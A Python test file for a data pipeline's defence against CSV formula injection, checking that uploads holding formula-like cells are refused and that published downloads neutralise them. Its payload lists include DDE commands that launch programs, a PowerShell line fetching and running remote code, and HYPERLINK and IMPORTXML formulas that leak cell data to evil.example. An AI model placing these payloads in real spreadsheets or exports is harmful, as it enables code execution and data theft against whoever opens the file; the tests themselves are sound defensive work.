"""Formula-like cells (CSV injection): refused by the contracts and neutralised in every download.

The payloads are OWASP's CSV injection examples plus the bypasses issue 16 found in the
earlier rule (a minus and a digit, a leading space, non-breaking space or newline, ``-.5``).
"""

from __future__ import annotations

import csv
from pathlib import Path

import duckdb
import pandas as pd
import pytest

from assets.ingest.contracts import load_contracts
from assets.ingest.intake import judge
from assets.ingest.landing import landed_file
from assets.publication.downloads import write_downloads
from assets.reference import councils
from assets.spreadsheet_formulas import formula_like, formula_like_sql, neutralise, neutralise_frame
from tests.ingest.samples import COLUMNS, DATASET, EpisodesFile
from tests.support.paths import CONTRACTS, SHARED

OWASP_PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Error: please click for details")',
    '=IMPORTXML(CONCAT("http://evil.example?v=", CONCATENATE(A2:E2)), "//a")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "=1+2\";=1+2",
    "\t=1+2",
    "\r=1+2",
]
BYPASSES = [
    "-1+1",
    "-.5+cmd|' /C calc'!A0",
    " =1+1",
    "\u00a0=1+1",  # a non-breaking space
    "\n=1+1",
    "\u200b=1+1",  # a zero-width space
    "\ufeff@SUM(A1:A9)",  # a byte order mark
    "\uff1dHYPERLINK(\"http://evil.example\")",  # a full-width equals sign
    "\u2212" + "1+1",  # a minus sign
    "cmd|' /C calc'!A0",  # a DDE call without a leading sign
]
PLAIN = ["Being listened to", "-5", "-0.5", "-.5", " -12 ", "5", "2020-21", "well-being", "e-mail me", "It's great!", "yes | no", "Ages 0-17", "'=1+1", ""]


@pytest.mark.parametrize("payload", OWASP_PAYLOADS + BYPASSES)
def test_every_payload_is_formula_like_and_neutralised(payload: str):
    assert formula_like(payload)
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_and_plain_numbers_are_left_alone(text: str):
    assert not formula_like(text) and neutralise(text) == text


def test_a_frame_is_neutralised_cell_for_cell_and_its_numbers_kept():
    values = (OWASP_PAYLOADS + BYPASSES + PLAIN) * 3 + [None]  # repeated, as a table repeats its categories
    frame = pd.DataFrame({"text": values, "count": range(len(values)), "mixed": [*values[:-1], 7]})
    neutralised = neutralise_frame(frame)
    assert neutralised["text"].tolist() == [None if v is None else neutralise(v) for v in values]
    assert neutralised["mixed"].tolist() == [*map(neutralise, values[:-1]), 7]
    assert neutralised["count"].tolist() == list(range(len(values))) and frame["text"].tolist() == values  # the input is untouched


def test_the_duckdb_rule_and_the_python_test_agree():
    values = OWASP_PAYLOADS + BYPASSES + PLAIN
    with duckdb.connect() as con:
        flagged = con.execute(f"SELECT coalesce({formula_like_sql('v')}, false) FROM unnest(?) AS t(v)", [values]).fetchall()
    assert [f for (f,) in flagged] == [formula_like(v) for v in values]


def test_the_contract_refuses_exactly_the_rows_holding_a_payload(tmp_path: Path):
    payloads = OWASP_PAYLOADS + BYPASSES
    sample = EpisodesFile.valid("S12000049", "2021")
    template = sample.rows[2]
    sample.rows = [{**template, "child_ref": f"C{n:04d}", "sibling_group_ref": text} for n, text in enumerate(payloads + PLAIN)]
    path = tmp_path / "landing" / "S12000049" / DATASET / sample.file_name
    path.parent.mkdir(parents=True)
    with path.open("w", newline="", encoding="utf-8") as handle:  # every value quoted, so a carriage return stays inside its cell
        writer = csv.DictWriter(handle, fieldnames=COLUMNS, quoting=csv.QUOTE_ALL, lineterminator="\n")
        writer.writeheader()
        writer.writerows(sample.rows)
    [verdict] = judge([landed_file(path)], load_contracts(CONTRACTS)[DATASET], councils(SHARED / "reference"), SHARED / "reference", tmp_path / "staging.duckdb")
    [formula] = [p for p in verdict.problems if p.check == "formula"]
    assert formula.columns == ("sibling_group_ref",) and formula.rows_affected == len(payloads)
    assert formula.rows == tuple(range(1, 21))  # the first 20 listed, all of them payload rows
    assert not verdict.accepted


def test_downloads_neutralise_formula_cells_and_keep_numbers(tmp_path: Path):
    with duckdb.connect() as con:
        con.execute("CREATE SCHEMA mart")
        con.execute("CREATE TABLE mart.published_quotes (theme VARCHAR, quote VARCHAR, change INTEGER)")
        con.executemany("INSERT INTO mart.published_quotes VALUES ('Voice', ?, -3)", [[t] for t in OWASP_PAYLOADS + BYPASSES + PLAIN])
        [path] = write_downloads(con, tmp_path, edition="e1", titles={}, geography_names={})
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["quote"] for r in rows] == ["'" + t for t in OWASP_PAYLOADS + BYPASSES] + PLAIN[:-1] + [""]
    assert {r["change"] for r in rows} == {"-3"} and {r["theme"] for r in rows} == {"Voice"}
